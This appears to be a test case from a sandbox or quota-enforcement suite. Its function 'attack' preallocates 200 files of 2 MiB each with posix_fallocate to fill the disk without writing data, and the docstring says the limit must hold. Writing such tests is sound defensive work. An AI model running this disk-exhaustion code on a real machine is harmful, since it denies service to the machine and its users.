"""Reserves disk without writing a byte.

Tries: to fill the disk faster than anybody counts what is written.
Must: end with the limit on disk; the folder is gone afterwards.
Control: fills the disk
Harms: the machine
"""


def attack():
    for number in range(200):
        descriptor = os.open(f"reserved-{number}", os.O_CREAT | os.O_WRONLY)
        os.posix_fallocate(descriptor, 0, 2 << 20)
